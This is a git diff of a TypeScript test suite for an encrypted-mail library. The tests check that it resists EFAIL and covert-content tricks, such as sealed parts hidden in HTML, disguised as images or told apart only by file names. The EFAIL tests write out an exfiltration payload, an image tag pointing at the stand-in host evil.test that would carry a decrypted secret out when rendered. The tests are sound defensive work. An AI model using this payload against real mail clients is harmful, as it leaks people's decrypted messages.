@@ -1,8 +1,9 @@
 /** Sealed parts in foreign shells: hidden in HTML, beside other text, attached, nested, doubled (EFAIL, covert content). */
 
 import { parseAddress } from "../../src/mail/mailbox.js";
+import { partTypes } from "../../src/mail/part-types.js";
 import { readPayload } from "../../src/mail/payload.js";
-import { fromParts, partTypes, readSealedMail, writeSubmission } from "../../src/mail/sealed-mail.js";
+import { fromParts, readSealedMail, writeSubmission } from "../../src/mail/sealed-mail.js";
 import {
   type Mode,
   openAtServer,
@@ -14,7 +15,7 @@ import {
 } from "../../src/protocol/index.js";
 import { aliceSeals, type Cast, keysOf, makeCast, saysAlice, serverContext } from "../protocol/people.js";
 import { bytes } from "./forge.js";
-import { quoteAnywhere, sealedAnywhere } from "./naive/naive-mail.js";
+import { onePage, quoteAnywhere, sealedAnywhere } from "./naive/naive-mail.js";
 import { roster } from "./naive/naive-server.js";
 
 let cast: Cast;
@@ -72,16 +73,17 @@ describe("EFAIL: what is opened is put between an image's quotes, so that render
   const before = '<img src="https://evil.test/?';
   const after = '">';
 
+  const raw = () =>
+    mail("multipart/mixed", [part("text/html", before), key(), body(), part("text/html", after)]);
+
   test("a reader that joins the opened part with its neighbours gives the secret away", async () => {
-    const opened = await openPost(sealed, keysOf(cast, cast.bob), saysAlice(cast));
-    if (opened.kind !== "opened") throw new Error("not opened");
-    const joined = before + new TextDecoder().decode(opened.payload) + after;
-    expect(joined).toBe('<img src="https://evil.test/?the secret">');
+    const page = await onePage(raw(), keysOf(cast, cast.bob), saysAlice(cast));
+    // what a program fetches to draw the image
+    expect(/src="([^"]*)"/.exec(page)?.[1]).toBe("https://evil.test/?the secret");
   });
 
   test("ours hands out the sealed message and nothing that stood around it", async () => {
-    const raw = mail("multipart/mixed", [part("text/html", before), key(), body(), part("text/html", after)]);
-    const read = await readSealedMail(raw);
+    const read = await readSealedMail(raw());
     expect(read).toEqual({
       kind: "sealed",
       sealed,
@@ -139,12 +141,12 @@ describe("covert content: a sealed part where nobody looks for one, in a mail th
         ]),
     ],
     [
-      "under another media type",
+      "as pictures under our file names",
       () =>
         mail("multipart/mixed", [
           part("text/plain", "please have a look"),
-          part("application/octet-stream", sealed.key, named("sealed-key.pgp")),
-          part("application/octet-stream", sealed.body, named("sealed-body.pgp")),
+          part("image/png", sealed.key, named("sealed-key.pgp")),
+          part("image/png", sealed.body, named("sealed-body.pgp")),
         ]),
     ],
   ];
@@ -212,6 +214,30 @@ describe("two sealed messages in one mail: which one is shown, under whose name?
     expect(() => fromParts(types.map((type) => ({ type, bytes: sealed.key })))).toThrow(
       expect.objectContaining({ code: "damaged" }),
     );
+  });
+
+  test("ours takes none either if the second is told by file names alone", async () => {
+    const named = (name: string) => `Content-Disposition: attachment; filename="${name}"`;
+    const mixed = [
+      key(),
+      body(),
+      part("application/octet-stream", other.key, named("sealed-key (1).pgp")),
+      part("application/pgp-encrypted", other.body, named("sealed-body (1).pgp")),
+    ];
+    await expect(readSealedMail(mail("multipart/mixed", mixed))).rejects.toMatchObject({ code: "damaged" });
+  });
+
+  test("a name gives another message's part no better standing: it does not open", async () => {
+    const named = (name: string) => `Content-Disposition: attachment; filename="${name}"`;
+    const raw = mail("multipart/mixed", [
+      part("application/octet-stream", sealed.key, named("sealed-key.pgp")),
+      part("application/octet-stream", other.body, named("sealed-body.pgp")),
+    ]);
+    const read = await readSealedMail(raw);
+    if (read.kind !== "sealed") throw new Error("the parts are found by their names");
+    await expect(openPost(read.sealed, keysOf(cast, cast.bob), saysAlice(cast))).rejects.toMatchObject({
+      code: expect.stringMatching(/^(?:binding-mismatch|damaged)$/),
+    });
   });
 
   const twoFrom = () =>
